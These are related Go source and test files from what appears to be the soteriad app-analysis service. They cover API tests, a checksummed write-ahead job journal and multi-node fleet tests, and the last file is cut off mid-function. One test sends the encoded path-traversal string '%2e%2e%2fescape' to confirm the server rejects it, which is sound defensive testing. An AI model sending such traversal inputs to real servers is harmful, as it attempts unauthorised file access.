	faultinject.BeginCount()
	resp, body := postJSON(t, ts.URL+"/v1/analyze", req)
	counts := faultinject.TakeCounts()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("first POST: %d (%v)", resp.StatusCode, body)
	}
	if body["cached"] == true {
		t.Fatalf("first POST claims cached: %v", body)
	}
	if counts[faultinject.SiteAnalyze] != 1 {
		t.Fatalf("first POST dispatched %d analyses, want 1", counts[faultinject.SiteAnalyze])
	}
	result, ok := body["result"].(map[string]any)
	if !ok {
		t.Fatalf("no result in response: %v", body)
	}
	if result["schema"] != float64(2) || result["states"] == float64(0) {
		t.Fatalf("unexpected record: %v", result)
	}
	key, _ := body["key"].(string)
	if key == "" {
		t.Fatalf("no content key in response: %v", body)
	}

	// The repeated request must be a pure store read: no analysis
	// dispatch, cached flag set, identical record, hit counter up.
	before := st.Stats().Hits
	faultinject.BeginCount()
	resp2, body2 := postJSON(t, ts.URL+"/v1/analyze", req)
	counts2 := faultinject.TakeCounts()
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("second POST: %d", resp2.StatusCode)
	}
	if body2["cached"] != true {
		t.Fatalf("second POST not cached: %v", body2)
	}
	if n := counts2[faultinject.SiteAnalyze]; n != 0 {
		t.Fatalf("second POST dispatched %d analyses, want 0", n)
	}
	if st.Stats().Hits <= before {
		t.Fatalf("store hit counter did not increment: %+v", st.Stats())
	}
	if fmt.Sprint(body2["result"]) != fmt.Sprint(result) {
		t.Fatalf("cached record differs:\n%v\n---\n%v", body2["result"], result)
	}

	// The record is addressable by content hash.
	resp3, rec := getJSON(t, ts.URL+"/v1/results/"+key)
	if resp3.StatusCode != http.StatusOK || rec["schema"] != float64(2) {
		t.Fatalf("GET /v1/results/%s: %d %v", key, resp3.StatusCode, rec)
	}
}

func TestBatchEndpoint(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 2})
	req := map[string]any{
		"items": []map[string]any{
			{"key": "smoke", "apps": []map[string]string{{"name": "smoke", "source": paperapps.SmokeAlarm}}},
			{"key": "union", "apps": []map[string]string{
				{"name": "smoke", "source": paperapps.SmokeAlarm},
				{"name": "leak", "source": paperapps.WaterLeakDetector},
			}},
		},
	}
	resp, body := postJSON(t, ts.URL+"/v1/batch", req)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("batch POST: %d (%v)", resp.StatusCode, body)
	}
	results, ok := body["results"].([]any)
	if !ok || len(results) != 2 {
		t.Fatalf("batch results: %v", body)
	}
	first := results[0].(map[string]any)
	if first["key"] != "smoke" || first["result"].(map[string]any)["schema"] != float64(2) {
		t.Fatalf("batch item 0: %v", first)
	}
	// A broken app fails its item, not the batch.
	req2 := map[string]any{
		"items": []map[string]any{
			{"key": "bad", "apps": []map[string]string{{"name": "bad", "source": "definition("}}},
			{"key": "good", "apps": []map[string]string{{"name": "smoke", "source": paperapps.SmokeAlarm}}},
		},
	}
	resp2, body2 := postJSON(t, ts.URL+"/v1/batch", req2)
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("mixed batch POST: %d", resp2.StatusCode)
	}
	results2 := body2["results"].([]any)
	bad := results2[0].(map[string]any)
	good := results2[1].(map[string]any)
	if bad["error"] == nil || bad["error"] == "" {
		t.Fatalf("broken item has no error: %v", bad)
	}
	if good["result"] == nil {
		t.Fatalf("good item has no result: %v", good)
	}
}

func TestAsyncJobsPoll(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 1})
	resp, body := postJSON(t, ts.URL+"/v1/analyze", map[string]any{
		"name": "smoke", "source": paperapps.SmokeAlarm, "async": true,
	})
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("async POST: %d", resp.StatusCode)
	}
	id, _ := body["job_id"].(string)
	if id == "" {
		t.Fatalf("async response has no job_id: %v", body)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, body = getJSON(t, ts.URL+"/v1/jobs/"+id)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("poll: %d", resp.StatusCode)
		}
		if body["status"] == "done" {
			if body["result"].(map[string]any)["schema"] != float64(2) {
				t.Fatalf("done job has no record: %v", body)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s never completed: %v", id, body)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if resp, _ := getJSON(t, ts.URL+"/v1/jobs/nope"); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown job: %d", resp.StatusCode)
	}
}

func TestRequestValidation(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 1, MaxBodyBytes: 1 << 20, MaxSourceBytes: 2048})
	cases := []struct {
		name string
		body string
		code int
	}{
		{"malformed", `{"name":`, http.StatusBadRequest},
		{"empty", `{}`, http.StatusBadRequest},
		{"no source", `{"name":"x"}`, http.StatusBadRequest},
		{"unknown field", `{"name":"x","source":"y","nope":1}`, http.StatusBadRequest},
		{"trailing", `{"name":"x","source":"y"}{}`, http.StatusBadRequest},
		{"bad property", `{"name":"x","source":"y","options":{"properties":["P.999"]}}`, http.StatusBadRequest},
		{"negative timeout", `{"name":"x","source":"y","options":{"timeout_ms":-1}}`, http.StatusBadRequest},
		{"nothing to check", `{"name":"x","source":"y","options":{"general":false,"app_specific":false,"taint":false}}`, http.StatusBadRequest},
		{"oversized source", fmt.Sprintf(`{"name":"x","source":%q}`, strings.Repeat("a", 4096)), http.StatusRequestEntityTooLarge},
	}
	for _, tc := range cases {
		resp, err := http.Post(ts.URL+"/v1/analyze", "application/json", strings.NewReader(tc.body))
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.code {
			t.Errorf("%s: status %d, want %d", tc.name, resp.StatusCode, tc.code)
		}
	}
	// Whole-body cap → 413.
	big := fmt.Sprintf(`{"name":"x","source":%q}`, strings.Repeat("a", 2<<20))
	resp, err := http.Post(ts.URL+"/v1/analyze", "application/json", strings.NewReader(big))
	if err != nil {
		t.Fatalf("big body: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("big body: status %d, want 413", resp.StatusCode)
	}
	// An unparseable app is a 422 (failed job), not a 5xx.
	resp2, body2 := postJSON(t, ts.URL+"/v1/analyze", map[string]any{"name": "bad", "source": "definition("})
	if resp2.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("unparseable app: status %d (%v), want 422", resp2.StatusCode, body2)
	}
}

func TestPropertyFilterOverHTTP(t *testing.T) {
	_, ts := newTestServer(t, Config{Workers: 1})
	resp, body := postJSON(t, ts.URL+"/v1/analyze", map[string]any{
		"name": "smoke", "source": paperapps.SmokeAlarm,
		"options": map[string]any{"general": false, "properties": []string{"P.10"}},
	})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST: %d (%v)", resp.StatusCode, body)
	}
	checked := body["result"].(map[string]any)["checked"].([]any)
	if len(checked) != 1 || checked[0] != "P.10" {
		t.Fatalf("checked = %v, want [P.10]", checked)
	}
}

func TestHealthAndMetrics(t *testing.T) {
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}
	_, ts := newTestServer(t, Config{Workers: 1, Store: st})
	resp, body := getJSON(t, ts.URL+"/healthz")
	if resp.StatusCode != http.StatusOK || body["status"] != "ok" {
		t.Fatalf("healthz: %d %v", resp.StatusCode, body)
	}
	postJSON(t, ts.URL+"/v1/analyze", map[string]any{"name": "smoke", "source": paperapps.SmokeAlarm})

	mresp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatalf("metrics: %v", err)
	}
	defer mresp.Body.Close()
	raw, err := io.ReadAll(mresp.Body)
	if err != nil {
		t.Fatalf("reading metrics: %v", err)
	}
	text := string(raw)
	for _, want := range []string{
		"soteriad_queue_depth 0",
		"soteriad_inflight_jobs 0",
		"soteriad_jobs_done_total 1",
		"soteriad_store_puts_total 1",
		"soteriad_cache_misses_total",
		"soteriad_store_corrupt_total 0",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("metrics missing %q in:\n%s", want, text)
		}
	}
}

func TestResultsEndpointRejectsBadHashes(t *testing.T) {
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store: %v", err)
	}
	_, ts := newTestServer(t, Config{Workers: 1, Store: st})
	for _, hash := range []string{"zz", "%2e%2e%2fescape", strings.Repeat("a", 64)} {
		resp, err := http.Get(ts.URL + "/v1/results/" + hash)
		if err != nil {
			t.Fatalf("GET: %v", err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("GET /v1/results/%s: %d, want 404", hash, resp.StatusCode)
		}
	}
}
