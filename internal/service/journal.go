package service

import (
	"bytes"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/fsio"
	"github.com/soteria-analysis/soteria/internal/guard"
)

// The job journal is soteriad's write-ahead log of job lifecycle
// events. Every accepted job is appended (and fsynced) before the
// client sees its acknowledgment, so a crash — SIGKILL, OOM, power
// cut — can lose only work the client was never told was accepted.
// On restart the journal is replayed: incomplete jobs re-enqueue with
// their original IDs, terminal jobs rebuild the /v1/jobs table, and
// client-supplied idempotency keys keep resubmissions from running
// twice.
//
// Wire format — one entry per line:
//
//	<crc32-ieee-hex8> <canonical JSON of journalEvent>\n
//
// json.Marshal never emits raw newlines, so lines frame entries; the
// checksum covers the JSON bytes. Replay stops at the first entry that
// fails its checksum or does not parse — the classic torn-tail rule —
// and the file is truncated back to the last good entry.
//
// Appends are fsync-batched (group commit): concurrent appenders pile
// up behind one fsync, so a burst of accepted jobs costs one disk
// flush, not one per job.

// journalOp is a lifecycle event kind.
const (
	opAccepted = "accepted" // job journaled before its ack
	opRejected = "rejected" // accepted entry withdrawn (queue full)
	opDone     = "done"     // terminal: success
	opFailed   = "failed"   // terminal: hard input error
)

// journalEvent is one journal entry. Accepted events carry the whole
// job — sources and options — so replay can re-run it; terminal events
// carry per-item results by store key (the record bytes live in the
// content-addressed store, not the journal).
type journalEvent struct {
	Op        string          `json:"op"`
	Job       string          `json:"job"`
	Idem      string          `json:"idem,omitempty"`
	Batch     bool            `json:"batch,omitempty"`
	Trace     string          `json:"trace,omitempty"`
	Items     []journalItem   `json:"items,omitempty"`
	Opts      *journalOptions `json:"opts,omitempty"`
	Results   []journalResult `json:"results,omitempty"`
	ElapsedMS int64           `json:"elapsed_ms,omitempty"`
}

type journalItem struct {
	Key  string      `json:"key,omitempty"`
	Apps []appSource `json:"apps"`
}

// journalOptions is the serializable form of core.Options (Parallel
// included: a replayed job should re-run as submitted).
type journalOptions struct {
	General         bool     `json:"general"`
	AppSpecific     bool     `json:"app_specific"`
	PropertyIDs     []string `json:"property_ids,omitempty"`
	Parallel        int      `json:"parallel,omitempty"`
	TimeoutMS       int64    `json:"timeout_ms,omitempty"`
	MaxStates       int      `json:"max_states,omitempty"`
	MaxBDDNodes     int      `json:"max_bdd_nodes,omitempty"`
	MaxSATConflicts int      `json:"max_sat_conflicts,omitempty"`
	MaxFormulaDepth int      `json:"max_formula_depth,omitempty"`
}

type journalResult struct {
	Key      string `json:"key,omitempty"`
	StoreKey string `json:"store_key,omitempty"`
	Cached   bool   `json:"cached,omitempty"`
	Err      string `json:"err,omitempty"`
}

func optionsToJournal(o core.Options) *journalOptions {
	return &journalOptions{
		General:         o.General,
		AppSpecific:     o.AppSpecific,
		PropertyIDs:     o.PropertyIDs,
		Parallel:        o.Parallel,
		TimeoutMS:       o.Limits.Timeout.Milliseconds(),
		MaxStates:       o.Limits.MaxStates,
		MaxBDDNodes:     o.Limits.MaxBDDNodes,
		MaxSATConflicts: o.Limits.MaxSATConflicts,
		MaxFormulaDepth: o.Limits.MaxFormulaDepth,
	}
}

func (jo *journalOptions) core() core.Options {
	if jo == nil {
		return core.DefaultOptions()
	}
	return core.Options{
		General:     jo.General,
		AppSpecific: jo.AppSpecific,
		PropertyIDs: jo.PropertyIDs,
		Parallel:    jo.Parallel,
		Limits: guard.Limits{
			Timeout:         time.Duration(jo.TimeoutMS) * time.Millisecond,
			MaxStates:       jo.MaxStates,
			MaxBDDNodes:     jo.MaxBDDNodes,
			MaxSATConflicts: jo.MaxSATConflicts,
			MaxFormulaDepth: jo.MaxFormulaDepth,
		},
	}
}

// acceptedEvent snapshots a job into its accepted entry.
func acceptedEvent(j *job) journalEvent {
	ev := journalEvent{
		Op:    opAccepted,
		Job:   j.id,
		Idem:  j.idemKey,
		Batch: j.batch,
		Trace: j.trace,
		Opts:  optionsToJournal(j.opts),
	}
	for _, it := range j.items {
		ji := journalItem{Key: it.Key}
		for _, s := range it.Sources {
			ji.Apps = append(ji.Apps, appSource{Name: s.Name, Source: s.Source})
		}
		ev.Items = append(ev.Items, ji)
	}
	return ev
}

// jobFromAccepted reconstructs a runnable job from its accepted entry.
// Replayed jobs are async by construction: their original submitter is
// gone, so nobody waits on the done channel.
func jobFromAccepted(ev journalEvent) *job {
	j := &job{
		id:      ev.Job,
		idemKey: ev.Idem,
		batch:   ev.Batch,
		trace:   ev.Trace,
		async:   true,
		opts:    ev.Opts.core(),
		status:  statusQueued,
		done:    make(chan struct{}),
	}
	for _, it := range ev.Items {
		bi := core.BatchItem{Key: it.Key}
		for _, a := range it.Apps {
			bi.Sources = append(bi.Sources, core.NamedSource{Name: a.Name, Source: a.Source})
		}
		j.items = append(j.items, bi)
	}
	return j
}

// journalStats are the journal's monotonic counters for /metrics.
type journalStats struct {
	appends, syncs atomic.Int64
}

// replayStats describe what opening a journal found.
type replayStats struct {
	// Entries is the count of valid entries replayed.
	Entries int
	// TruncatedBytes is how much torn tail was cut off.
	TruncatedBytes int
}

// journal is the append-only, fsync-batched job journal. A nil
// *journal is inert: appends succeed without doing anything, so a
// journal-less configuration threads through unconditionally.
type journal struct {
	fs   fsio.FS
	path string

	mu       sync.Mutex // guards f and file writes
	f        fsio.File
	writeSeq uint64

	syncMu    sync.Mutex // group commit: one fsync covers piled-up writes
	syncedSeq uint64

	stats  journalStats
	replay replayStats
}

// openJournal opens (or creates) the journal at path, replays its
// valid prefix, and truncates any torn tail. The returned events are
// in append order.
func openJournal(path string, fsys fsio.FS) (*journal, []journalEvent, error) {
	if fsys == nil {
		fsys = fsio.OS{}
	}
	if err := fsys.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return nil, nil, fmt.Errorf("journal: %w", err)
	}
	j := &journal{fs: fsys, path: path}

	data, err := fsys.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		return nil, nil, fmt.Errorf("journal: reading %s: %w", path, err)
	}
	events, valid := parseJournal(data)
	j.replay.Entries = len(events)
	j.replay.TruncatedBytes = len(data) - valid
	if j.replay.TruncatedBytes > 0 {
		// Cut the torn tail by atomically rewriting the valid prefix —
		// the same temp+rename+dir-sync protocol the store uses.
		if err := j.writeWhole(data[:valid]); err != nil {
			return nil, nil, err
		}
	}
	f, err := fsys.OpenAppend(path)
	if err != nil {
		return nil, nil, fmt.Errorf("journal: %w", err)
	}
	j.f = f
	return j, events, nil
}

// parseJournal decodes the valid prefix of journal bytes, returning
// the events and the byte offset up to which the file is sound.
func parseJournal(data []byte) ([]journalEvent, int) {
	var events []journalEvent
	valid := 0
	for off := 0; off < len(data); {
		nl := bytes.IndexByte(data[off:], '\n')
		if nl < 0 {
			break // unterminated tail entry
		}
		line := data[off : off+nl]
		if len(line) < 10 || line[8] != ' ' {
			break
		}
		var sum uint32
		if _, err := fmt.Sscanf(string(line[:8]), "%08x", &sum); err != nil {
			break
		}
		payload := line[9:]
		if crc32.ChecksumIEEE(payload) != sum {
			break
		}
		var ev journalEvent
		if err := json.Unmarshal(payload, &ev); err != nil {
			break
		}
		events = append(events, ev)
		off += nl + 1
		valid = off
	}
	return events, valid
}

// writeWhole atomically replaces the journal file's contents.
func (j *journal) writeWhole(data []byte) error {
	dir := filepath.Dir(j.path)
	tmp, err := j.fs.CreateTemp(dir, ".tmp-journal-*")
	if err != nil {
		return fmt.Errorf("journal: %w", err)
	}
	_, werr := tmp.Write(data)
	if werr == nil {
		werr = tmp.Sync()
	}
	cerr := tmp.Close()
	if werr == nil {
		werr = cerr
	}
	if werr == nil {
		werr = j.fs.Rename(tmp.Name(), j.path)
	}
	if werr != nil {
		j.fs.Remove(tmp.Name())
		return fmt.Errorf("journal: rewriting %s: %w", j.path, werr)
	}
	_ = j.fs.SyncDir(dir)
	return nil
}

// compact rewrites the journal to exactly the given events — called
// after replay so completed history beyond the retention bound stops
// accumulating — and reopens the append handle.
func (j *journal) compact(events []journalEvent) error {
	if j == nil {
		return nil
	}
	var buf bytes.Buffer
	for _, ev := range events {
		line, err := encodeEntry(ev)
		if err != nil {
			return err
		}
		buf.Write(line)
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.f != nil {
		j.f.Close()
	}
	if err := j.writeWhole(buf.Bytes()); err != nil {
		return err
	}
	f, err := j.fs.OpenAppend(j.path)
	if err != nil {
		return fmt.Errorf("journal: %w", err)
	}
	j.f = f
	return nil
}

// encodeEntry frames one event as a checksummed journal line.
func encodeEntry(ev journalEvent) ([]byte, error) {
	payload, err := json.Marshal(ev)
	if err != nil {
		return nil, fmt.Errorf("journal: encoding event: %w", err)
	}
	line := make([]byte, 0, len(payload)+10)
	line = fmt.Appendf(line, "%08x ", crc32.ChecksumIEEE(payload))
	line = append(line, payload...)
	return append(line, '\n'), nil
}

// append writes one event durably: the call returns only after an
// fsync covering the entry. Concurrent appenders share fsyncs (group
// commit): each waits only for the first flush that covers its write.
func (j *journal) append(ev journalEvent) error {
	if j == nil {
		return nil
	}
	line, err := encodeEntry(ev)
	if err != nil {
		return err
	}
	j.mu.Lock()
	if j.f == nil {
		j.mu.Unlock()
		return fmt.Errorf("journal: closed")
	}
	if _, err := j.f.Write(line); err != nil {
		j.mu.Unlock()
		return fmt.Errorf("journal: append: %w", err)
	}
	j.writeSeq++
	target := j.writeSeq
	j.mu.Unlock()
	j.stats.appends.Add(1)
	return j.syncTo(target)
}

// syncTo ensures an fsync has covered write sequence target.
func (j *journal) syncTo(target uint64) error {
	j.syncMu.Lock()
	defer j.syncMu.Unlock()
	if j.syncedSeq >= target {
		return nil // a piled-up appender's fsync already covered us
	}
	j.mu.Lock()
	covered := j.writeSeq
	f := j.f
	j.mu.Unlock()
	if f == nil {
		return fmt.Errorf("journal: closed")
	}
	if err := f.Sync(); err != nil {
		return fmt.Errorf("journal: fsync: %w", err)
	}
	j.stats.syncs.Add(1)
	j.syncedSeq = covered
	return nil
}

// close syncs and closes the journal file.
func (j *journal) close() error {
	if j == nil {
		return nil
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.f == nil {
		return nil
	}
	serr := j.f.Sync()
	cerr := j.f.Close()
	j.f = nil
	if serr != nil {
		return serr
	}
	return cerr
}
