package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/cluster"
	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/market"
	"github.com/soteria-analysis/soteria/internal/report"
	"github.com/soteria-analysis/soteria/internal/store"
)

// fleet is an in-process N-node fleet: each node is a full Server with
// its own store shard, fronted by an httptest server, all sharing one
// ring. The front ends start before the Servers exist (the ring needs
// every URL up front), so each delegates through an atomic handler
// slot.
type fleet struct {
	servers  []*Server
	fronts   []*httptest.Server
	clusters []*cluster.Cluster
	urls     []string
}

func newFleet(t *testing.T, n int, cfg func(i int) Config) *fleet {
	t.Helper()
	f := &fleet{
		servers:  make([]*Server, n),
		fronts:   make([]*httptest.Server, n),
		clusters: make([]*cluster.Cluster, n),
		urls:     make([]string, n),
	}
	slots := make([]atomic.Pointer[http.Handler], n)
	for i := 0; i < n; i++ {
		i := i
		f.fronts[i] = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			h := slots[i].Load()
			if h == nil {
				http.Error(w, `{"error":"node starting"}`, http.StatusServiceUnavailable)
				return
			}
			(*h).ServeHTTP(w, r)
		}))
		f.urls[i] = f.fronts[i].URL
		t.Cleanup(f.fronts[i].Close)
	}
	for i := 0; i < n; i++ {
		cl, err := cluster.New(cluster.Config{Self: f.urls[i], Peers: f.urls})
		if err != nil {
			t.Fatalf("cluster.New node %d: %v", i, err)
		}
		f.clusters[i] = cl
		c := cfg(i)
		c.Cluster = cl
		s, err := New(c)
		if err != nil {
			t.Fatalf("New node %d: %v", i, err)
		}
		f.servers[i] = s
		t.Cleanup(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			s.Shutdown(ctx)
		})
		h := s.Handler()
		slots[i].Store(&h)
	}
	return f
}

// storeConfig is a per-node Config with a fresh store shard.
func storeConfig(t *testing.T) Config {
	t.Helper()
	st, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatalf("store.Open: %v", err)
	}
	return Config{Workers: 2, MaxBatchItems: 128, Store: st}
}

// corpusBatch renders the 65-app market corpus as one batch request,
// one item per app, keyed by app ID.
func corpusBatch() map[string]any {
	var items []map[string]any
	for _, a := range market.All() {
		items = append(items, map[string]any{
			"key":  a.ID,
			"apps": []map[string]string{{"name": a.ID, "source": a.Source}},
		})
	}
	return map[string]any{"items": items}
}

// canonicalResult re-encodes a response's result object canonically so
// byte comparison is about content, not JSON field ordering en route.
func canonicalResult(t *testing.T, raw json.RawMessage) string {
	t.Helper()
	rec, err := report.Decode(raw)
	if err != nil {
		t.Fatalf("decoding result record: %v", err)
	}
	data, err := report.Encode(rec)
	if err != nil {
		t.Fatalf("re-encoding result record: %v", err)
	}
	return string(data)
}

type wireBatchItem struct {
	Key    string          `json:"key"`
	Store  string          `json:"store_key"`
	Cached bool            `json:"cached"`
	Result json.RawMessage `json:"result"`
	Error  string          `json:"error"`
	Node   string          `json:"node"`
}

type wireBatchResponse struct {
	Status  string          `json:"status"`
	Results []wireBatchItem `json:"results"`
}

func submitCorpus(t *testing.T, url string) map[string]wireBatchItem {
	t.Helper()
	resp, body := postJSON(t, url+"/v1/batch", corpusBatch())
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("batch status %d: %v", resp.StatusCode, body)
	}
	data, err := json.Marshal(body)
	if err != nil {
		t.Fatalf("re-marshal: %v", err)
	}
	var wire wireBatchResponse
	if err := json.Unmarshal(data, &wire); err != nil {
		t.Fatalf("decode batch response: %v", err)
	}
	out := map[string]wireBatchItem{}
	for _, it := range wire.Results {
		if it.Error != "" {
			t.Fatalf("item %s failed: %s", it.Key, it.Error)
		}
		out[it.Key] = it
	}
	return out
}

// TestFleetCorpusByteIdentical is the fleet's conformance gate: a
// 3-node fleet analyzing the 65-app market corpus returns, for every
// app, a record byte-identical to a single-node daemon's — ownership
// sharding must never change a verdict, and the batch must actually
// have been spread across nodes.
func TestFleetCorpusByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("full-corpus fleet comparison")
	}
	_, single := newTestServer(t, storeConfig(t))
	want := submitCorpus(t, single.URL)

	f := newFleet(t, 3, func(int) Config { return storeConfig(t) })
	got := submitCorpus(t, f.urls[0])

	if len(got) != len(want) || len(got) != len(market.All()) {
		t.Fatalf("item counts: single %d, fleet %d, corpus %d", len(want), len(got), len(market.All()))
	}
	nodes := map[string]int{}
	for key, w := range want {
		g, ok := got[key]
		if !ok {
			t.Fatalf("fleet response missing item %s", key)
		}
		if g.Store != w.Store {
			t.Errorf("%s: store key %s (fleet) vs %s (single)", key, g.Store, w.Store)
		}
		if canonicalResult(t, g.Result) != canonicalResult(t, w.Result) {
			t.Errorf("%s: fleet record differs from single-node record", key)
		}
		nodes[g.Node]++
	}
	// All three nodes must have contributed ("" attributes the origin).
	if len(nodes) < 3 {
		t.Errorf("corpus was not spread across the fleet: per-node counts %v", nodes)
	}

	// Resubmitting the corpus to a *different* node must be served
	// entirely from the fleet's caches — the federation dividend.
	again := submitCorpus(t, f.urls[1])
	for key, g := range again {
		if !g.Cached {
			t.Errorf("%s: resubmission to another node re-analyzed instead of hitting the fleet cache", key)
		}
		if canonicalResult(t, g.Result) != canonicalResult(t, want[key].Result) {
			t.Errorf("%s: cached fleet record differs from single-node record", key)
		}
	}
}

// appOwnedBy finds a corpus app whose analysis key (under cfgOpts) is
// owned by the given member.
func appOwnedBy(t *testing.T, s *Server, cl *cluster.Cluster, member string) market.AppSpec {
	t.Helper()
	opts, herr := s.coreOptions(requestOptions{})
	if herr != nil {
		t.Fatalf("coreOptions: %v", herr)
	}
	for _, a := range market.All() {
		key := core.AnalysisKey([]core.NamedSource{{Name: a.ID, Source: a.Source}}, opts)
		if cl.Owner(key) == member {
			return a
		}
	}
	t.Fatalf("no corpus app owned by %s", member)
	return market.AppSpec{}
}

// TestFleetForwardsToOwner: a single analysis submitted to a non-owner
// is forwarded (node attribution set), and the owner's shard — not the
// origin's — holds the record.
func TestFleetForwardsToOwner(t *testing.T) {
	f := newFleet(t, 2, func(int) Config { return storeConfig(t) })
	app := appOwnedBy(t, f.servers[0], f.clusters[0], f.urls[1])

	resp, body := postJSON(t, f.urls[0]+"/v1/analyze", map[string]any{"name": app.ID, "source": app.Source})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("analyze status %d: %v", resp.StatusCode, body)
	}
	if body["node"] != f.urls[1] {
		t.Fatalf("node attribution %v, want owner %s", body["node"], f.urls[1])
	}
	key, _ := body["key"].(string)
	if _, ok := f.servers[1].cfg.Store.Get(key); !ok {
		t.Fatalf("owner's shard does not hold %s", key)
	}
	if _, ok := f.servers[0].cfg.Store.Get(key); ok {
		t.Fatalf("origin's shard holds %s although the owner was healthy", key)
	}

	// The origin can now answer for the key from the owner's cache.
	resp, body = postJSON(t, f.urls[0]+"/v1/analyze", map[string]any{"name": app.ID, "source": app.Source})
	if resp.StatusCode != http.StatusOK || body["cached"] != true {
		t.Fatalf("resubmission not served from fleet cache: %d %v", resp.StatusCode, body)
	}
}

// TestFleetLoopGuard: a request carrying the forwarded marker is
// served locally even when the ring says another node owns it — the
// guard that turns any routing disagreement into one extra hop.
func TestFleetLoopGuard(t *testing.T) {
	f := newFleet(t, 2, func(int) Config { return storeConfig(t) })
	app := appOwnedBy(t, f.servers[0], f.clusters[0], f.urls[1])

	data, _ := json.Marshal(map[string]any{"name": app.ID, "source": app.Source})
	req, _ := http.NewRequest(http.MethodPost, f.urls[0]+"/v1/analyze", bytes.NewReader(data))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(ForwardedHeader, "1")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	defer resp.Body.Close()
	var body map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("forwarded analyze status %d: %v", resp.StatusCode, body)
	}
	if n, ok := body["node"]; ok && n != "" {
		t.Fatalf("forwarded request was re-routed to %v", n)
	}
	if f.servers[0].routeForwards.Load() != 0 {
		t.Fatal("receiving node re-forwarded a marked request")
	}
	// The analysis RAN on the receiving node (no second hop), but the
	// result still writes through to the key's ring owner — requests
	// stop at one hop, records always land on their owner.
	key, _ := body["key"].(string)
	if _, ok := f.servers[1].cfg.Store.Get(key); !ok {
		t.Fatal("result did not write through to the ring owner's shard")
	}
	if _, ok := f.servers[0].cfg.Store.Get(key); ok {
		t.Fatal("result parked on the non-owner although the owner is healthy")
	}
}

// TestFleetDeadOwnerFallsBackLocally: when a key's owner is down, the
// origin serves the analysis itself (degrade, don't fail) and parks
// the record in its own shard.
func TestFleetDeadOwnerFallsBackLocally(t *testing.T) {
	f := newFleet(t, 2, func(int) Config { return storeConfig(t) })
	app := appOwnedBy(t, f.servers[0], f.clusters[0], f.urls[1])
	f.fronts[1].Close() // the owner dies

	resp, body := postJSON(t, f.urls[0]+"/v1/analyze", map[string]any{"name": app.ID, "source": app.Source})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("analyze with dead owner: status %d: %v", resp.StatusCode, body)
	}
	if n, ok := body["node"]; ok && n != "" {
		t.Fatalf("dead owner attributed: %v", n)
	}
	key, _ := body["key"].(string)
	if _, ok := f.servers[0].cfg.Store.Get(key); !ok {
		t.Fatal("fallback analysis was not parked in the origin's shard")
	}
	if f.servers[0].routeFallbacks.Load() == 0 {
		t.Fatal("fallback not counted")
	}
}

// TestFleetClusterStatus: every node serves /v1/cluster/status with
// the full membership; a cluster-less daemon serves the same schema
// with members=1.
func TestFleetClusterStatus(t *testing.T) {
	f := newFleet(t, 3, func(int) Config { return storeConfig(t) })
	for i, u := range f.urls {
		resp, err := http.Get(u + "/v1/cluster/status")
		if err != nil {
			t.Fatalf("status node %d: %v", i, err)
		}
		var st struct {
			Self    string `json:"self"`
			Members int    `json:"members"`
			Peers   []struct {
				Node  string  `json:"node"`
				Share float64 `json:"share"`
			} `json:"peers"`
		}
		err = json.NewDecoder(resp.Body).Decode(&st)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("decode status node %d: %v", i, err)
		}
		if st.Members != 3 || st.Self != u || len(st.Peers) != 3 {
			t.Fatalf("node %d status: %+v", i, st)
		}
		total := 0.0
		for _, p := range st.Peers {
			total += p.Share
		}
		if total < 0.999 || total > 1.001 {
			t.Fatalf("node %d shares sum to %f", i, total)
		}
	}

	_, single := newTestServer(t, Config{Workers: 1})
	resp, err := http.Get(single.URL + "/v1/cluster/status")
	if err != nil {
		t.Fatalf("single-node status: %v", err)
	}
	defer resp.Body.Close()
	var st struct {
		Members int `json:"members"`
	}
